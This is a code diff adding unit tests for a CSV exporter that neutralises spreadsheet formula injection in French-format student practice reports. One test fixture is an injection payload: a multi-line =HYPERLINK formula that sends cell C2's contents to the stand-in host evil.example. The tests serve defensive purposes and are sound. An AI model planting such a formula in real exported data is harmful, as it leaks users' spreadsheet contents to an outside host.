@@ -138,6 +138,26 @@ describe('spreadsheet CSV text', () => {
     expect(text).toBe('\uFEFF"\'=HYPERLINK(""x"")";"\'+1";ok');
   });
 
+  it("neutralises a student's formula that goes on over several lines (issue 34 §4)", () => {
+    const content = '=HYPERLINK("https://evil.example/?d="&C2,\n"Voir la correction")';
+    const nextGoals = ' \t@SUM(A1:A9)\r\n+1';
+    const rows = practiceCsvRows(input([report({ content, nextGoals, duration: 45 })]));
+    const text = spreadsheetCsv(rows, csvFormats.fr);
+    expect(text).toContain(';"\'=HYPERLINK(""https://evil.example/?d=""&C2,\n""Voir la correction"")";');
+    const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';' });
+    expect(parsed.errors).toEqual([]);
+    const [, row] = parsed.data;
+    expect(row![8]).toBe(`'${content}`);
+    expect(row![9]).toBe(`'${nextGoals}`);
+    expect(row![3]).toBe('45');
+    expect(row![4]).toBe('0,75');
+  });
+
+  it('keeps a negative amount a number, and quotes a neutralised cell', () => {
+    const text = spreadsheetCsv([['-12,50', '-12,50+1', '\tx', 'a = b']], csvFormats.fr);
+    expect(text).toBe('\uFEFF-12,50;"\'-12,50+1";"\'\tx";a = b');
+  });
+
   it('uses commas for English spreadsheets', () => {
     expect(
       spreadsheetCsv(
